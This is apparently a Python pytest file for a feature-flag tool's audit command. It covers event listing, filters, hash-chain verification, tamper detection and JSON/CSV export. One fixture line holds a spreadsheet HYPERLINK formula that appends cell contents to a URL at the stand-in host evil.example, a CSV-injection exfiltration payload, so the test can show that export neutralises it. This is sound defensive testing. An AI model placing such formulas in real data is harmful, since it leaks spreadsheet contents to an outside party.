"""`flagctl audit`: the trail, read by somebody who trusts nobody."""

import csv
import io
import json
import sqlite3

import pytest

from flagctl.domain.change import HandOver, RollBack
from flagctl.store.reading import reading
from flagctl.store.verified import standing
from flagctl.vocabulary import Mode
from tests.cli.terminal import Terminal

SAFE, STUB, REAL = Mode
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture
def history(terminal: Terminal) -> Terminal:
    terminal.act(RollBack(SAFE, "slow", incident="INC-42"))
    terminal.act(HandOver("bob", FORMULA))
    terminal.act(RollBack(STUB, "to be sure"))
    return terminal


def tamper(terminal: Terminal, statement: str) -> None:
    """Do what only somebody with the file and a purpose can do."""
    connection = sqlite3.connect(terminal.files.control)
    for name in ("update", "delete", "replace"):
        connection.execute(f"DROP TRIGGER audit_event_no_{name}")
    connection.execute(statement)
    connection.commit()
    connection.close()


def test_the_newest_event_comes_first_as_a_sentence(history: Terminal) -> None:
    lines = history.do("audit", "list", "--limit", "2").out.splitlines()
    assert f"asked to roll back to {STUB}" in lines[0]
    assert "handed the flag over from person:carol to bob" in lines[1]
    assert lines[2] == "Older ones: --before 2"
    older = history.do("audit", "list", "--before", "2").out.splitlines()
    assert "as revision 1" in older[0]


def test_filters_choose_events(history: Terminal) -> None:
    def ids(*words: str) -> list[int]:
        return [event["id"] for event in history.do("audit", "list", *words, "--json").json]

    assert ids("--action", "handover") == [2]
    assert ids("--outcome", "already") == [3]
    assert ids("--actor", "person:carol", "--flag", "1", "--limit", "1") == [3]
    assert ids("--since", "2999-01-01T00:00:00Z") == []
    assert ids("--until", "2999-01-01T00:00:00Z") == [3, 2, 1]


def test_a_chain_that_holds_tells_its_head(history: Terminal) -> None:
    head = history.do("audit", "list", "--json").json[0]["hash"]
    assert f"holds over 3 events; its head is {head}" in history.do("audit", "verify").out
    assert history.do("audit", "verify", "--json").json["holds"] is True


def test_a_verification_is_kept_for_the_audit_page(history: Terminal) -> None:
    head = history.do("audit", "verify", "--json").json["head_hash"]
    with reading(history.files) as connection:
        kept = standing(history.files, connection)
    assert kept is not None
    assert (kept.verified.found.events, kept.verified.found.head_hash) == (3, head)
    assert kept.verified.by.startswith("os:")


def test_a_verification_that_can_not_be_kept_is_told_all_the_same(history: Terminal) -> None:
    history.files.runtime.unlink(missing_ok=True)
    history.files.runtime.mkdir()
    answer = history.type("audit", "verify")
    assert (answer.code, "holds over 3 events" in answer.out) == (0, True)
    assert "The audit page will not show this result." in answer.err


TAMPERING = {
    "an edited reason": ("UPDATE audit_event SET reason = 'fine' WHERE id = 2", 2),
    "a removed event": ("DELETE FROM audit_event WHERE id = 2", 3),
    "a word that no version writes": ("UPDATE audit_event SET action = 'x' WHERE id = 2", 2),
    "a time that is none": ("UPDATE audit_event SET at = 'yesterday' WHERE id = 2", 2),
    "detail that is no JSON": ("UPDATE audit_event SET detail = '{' WHERE id = 2", 2),
}


@pytest.mark.parametrize(("statement", "first"), TAMPERING.values(), ids=TAMPERING.keys())
def test_the_first_broken_link_is_named_and_the_exit_code_is_5(
    history: Terminal, statement: str, first: int
) -> None:
    tamper(history, statement)
    answer = history.type("audit", "verify")
    assert answer.code == 5
    assert f"BROKEN at event {first}: " in answer.out
    told = history.type("audit", "verify", "--json")
    assert (told.code, told.json["holds"], told.json["broken_id"]) == (5, False, first)


def test_lines_of_json_carry_everything_that_the_hash_covers(history: Terminal) -> None:
    lines = history.do("audit", "export").out.splitlines()
    events = [json.loads(line) for line in lines]
    assert [event["id"] for event in events] == [1, 2, 3]
    assert events[1]["prev_hash"] == events[0]["hash"]
    assert events[1]["reason"] == FORMULA
    assert events[0]["detail"]["incident"] == "INC-42"


def test_no_cell_of_the_csv_runs_as_a_formula(history: Terminal) -> None:
    rows = list(csv.DictReader(io.StringIO(history.do("audit", "export", "--format", "csv").out)))
    assert rows[1]["reason"] == f"'{FORMULA}"
    assert [row["id"] for row in rows] == ["1", "2", "3"]
    assert not [cell for row in rows for cell in row.values() if cell[:1] in set("=+-@\t\r")]


def test_an_export_holds_exactly_what_is_filtered(history: Terminal) -> None:
    lines = history.do("audit", "export", "--action", "rollback").out.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [1, 3]


def test_nothing_is_said_plainly(terminal: Terminal) -> None:
    assert terminal.do("audit", "list").out == "No event passes this filter.\n"
    assert "holds over 0 events" in terminal.do("audit", "verify").out
